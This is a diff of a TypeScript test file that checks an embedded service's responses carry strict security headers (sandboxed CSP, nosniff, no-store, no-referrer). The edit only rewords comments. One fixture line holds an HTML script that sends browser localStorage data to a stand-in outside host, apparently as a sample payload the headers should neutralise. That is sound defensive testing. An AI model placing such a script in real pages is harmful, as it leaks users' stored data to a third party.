@@ -14,7 +14,7 @@ vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 })
 const LIST = '/api/kubernetes_operators'
 const PAGE = '<!doctype html><script>fetch("//elsewhere.example/?" + localStorage.key)</script>'
 
-/** What keeps a browser from running anything of an answer, and from keeping it. */
+/** The headers that keep a browser from running or storing any part of an answer. */
 const expectClosed = ({ headers }: Response) => {
   expect(headers.get('content-security-policy')).toBe(
     "default-src 'none'; sandbox; frame-ancestors 'none'",
@@ -22,11 +22,11 @@ const expectClosed = ({ headers }: Response) => {
   expect(headers.get('x-content-type-options')).toBe('nosniff')
   expect(headers.get('cache-control')).toBe('no-store')
   expect(headers.get('referrer-policy')).toBe('no-referrer')
-  // By the HTML standard an answer that has both this and a sandbox is not shown.
+  // By the HTML standard an answer with both this and a sandbox is not shown.
   expect(headers.has('cross-origin-opener-policy')).toBe(false)
 }
 
-// One store says as much as both, and the last one is the fastest there is.
+// One store proves as much as all, and the last one is the fastest.
 describe.each(testStores.slice(-1))('every answer of the embedded service', (testStore) => {
   let service: TestService
   let authorized: Record<string, string> = {}
